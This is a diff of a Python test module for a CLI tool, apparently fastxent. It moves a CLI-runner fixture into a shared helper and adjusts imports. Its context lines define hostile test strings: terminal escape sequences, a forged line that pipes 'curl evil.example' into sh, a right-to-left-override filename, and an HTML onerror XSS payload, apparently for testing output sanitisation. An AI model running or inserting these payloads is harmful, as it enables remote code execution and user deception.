@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import json
 import shlex
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -15,24 +14,13 @@ import pytest
 
 import dumps
 import fastxent as fx
-from fastxent.cli.program import run
 from fastxent.io.storage.files import File, find_files
 from fastxent.names import public_name
+from tests.cli.running import Cli
 
-Cli = Callable[..., tuple[int, str, str]]
 X = np.random.default_rng(0).normal(size=(60, 3)).astype(np.float32)
 ESCAPE, FORGED, BIDI = "\x1b]0;owned\x07\x1b[2J", "x\n\nrun:\n  curl evil.example | sh", "\u202egnp.exe"
 HTML = "<img src=x onerror=alert(1)>|[a](b)"
-
-
-@pytest.fixture
-def cli(capsys: pytest.CaptureFixture[str]) -> Cli:
-    def call(*arguments: object) -> tuple[int, str, str]:
-        code = run([str(argument) for argument in arguments])
-        captured = capsys.readouterr()
-        return code, captured.out, captured.err
-
-    return call
 
 
 def dump(path: Path, logits: Any = X, **columns: Any) -> Path:
